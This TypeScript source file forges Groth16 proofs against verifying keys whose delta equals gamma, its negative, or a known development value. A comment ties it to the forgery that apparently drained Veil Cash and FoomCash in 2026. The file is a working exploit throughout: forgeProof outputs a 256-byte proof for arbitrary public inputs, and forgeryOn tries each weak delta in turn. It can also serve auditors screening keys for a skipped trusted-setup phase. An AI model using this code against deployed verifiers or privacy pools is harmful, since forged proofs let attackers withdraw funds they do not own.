import { DEVELOPMENT_SECRETS } from "../keys/constants.js";
import type { VerifyingKey } from "../types.js";
import { SCALAR_FIELD_ORDER } from "./constants.js";
import { g1Bytes, g2Bytes } from "./encoding.js";
import { verifierOn } from "./groth16.js";
import { type Mcl, openMcl, SIZE } from "./mcl.js";
import { pointCodec, toBytes32 } from "./points.js";

/** Ways in which keys of real systems could be forged under. */
export type Forgery = "delta = gamma" | "delta = -gamma" | "known delta";

/**
 * Tries the forgery that emptied Veil Cash and FoomCash in 2026: with A = alpha1 and B = beta2 the equation leaves e(L, gamma) e(C, delta) = 1,
 * L being the public inputs' combination of IC points, and C = -L/delta solves it for whoever knows delta (gamma is 1). Phase 2 left out means
 * delta = 1. Returns the first attempt that verifies, undefined when none does. Takes the inputs 1, 2, 3, ....
 */
export async function forgeryThatVerifies(vk: VerifyingKey): Promise<Forgery | undefined> {
  return forgeryOn(await openMcl(), vk);
}

/** `forgeryThatVerifies` on an instance that is there already. */
export function forgeryOn(mcl: Mcl, vk: VerifyingKey): Forgery | undefined {
  const verifier = verifierOn(mcl, vk);
  const inputs = vk.ic.slice(1).map((_, i) => BigInt(i + 1));
  const attempts: readonly (readonly [Forgery, bigint])[] = [
    ["delta = gamma", 1n],
    ["delta = -gamma", SCALAR_FIELD_ORDER - 1n],
    ["known delta", DEVELOPMENT_SECRETS.delta],
  ];
  for (const [name, delta] of attempts) {
    if (verifier.verify(inputs, forgeOn(mcl, vk, inputs, delta))) return name;
  }
  return undefined;
}

/** The proof (alpha1, beta2, -L/delta) for any inputs: verifies exactly if `delta` is the key's. 256 bytes. */
export async function forgeProof(vk: VerifyingKey, inputs: readonly bigint[], delta: bigint): Promise<Uint8Array> {
  return forgeOn(await openMcl(), vk, inputs, delta);
}

function forgeOn(mcl: Mcl, vk: VerifyingKey, inputs: readonly bigint[], delta: bigint): Uint8Array {
  const { raw } = mcl;
  const codec = pointCodec(mcl);
  const [points, scalars] = [mcl.reserve(SIZE.g1 * vk.ic.length), mcl.reserve(SIZE.fr * vk.ic.length)];
  const [sum, text] = [mcl.reserve(SIZE.g1), mcl.reserve(32)];
  const minusInverse = SCALAR_FIELD_ORDER - inverse(delta);
  [1n, ...inputs].forEach((x, i) => {
    const point = vk.ic[i];
    if (point === undefined) return;
    codec.readG1(points + i * SIZE.g1, g1Bytes(point), 0);
    mcl.write(text, toBytes32((x * minusInverse) % SCALAR_FIELD_ORDER));
    raw._mclBnFr_setBigEndianMod(scalars + i * SIZE.fr, text, 32);
  });
  raw._mclBnG1_mulVec(sum, points, scalars, vk.ic.length);
  const proof = new Uint8Array(256);
  proof.set(g1Bytes(vk.alpha1), 0);
  proof.set(g2Bytes(vk.beta2), 64);
  proof.set(codec.writeG1(sum), 192);
  return proof;
}

/** 1/x mod r by the extended Euclidean algorithm. */
function inverse(x: bigint): bigint {
  let [a, b, u, v] = [SCALAR_FIELD_ORDER, x % SCALAR_FIELD_ORDER, 0n, 1n];
  while (b !== 0n) {
    const quotient = a / b;
    [a, b, u, v] = [b, a - quotient * b, v, u - quotient * v];
  }
  return ((u % SCALAR_FIELD_ORDER) + SCALAR_FIELD_ORDER) % SCALAR_FIELD_ORDER;
}
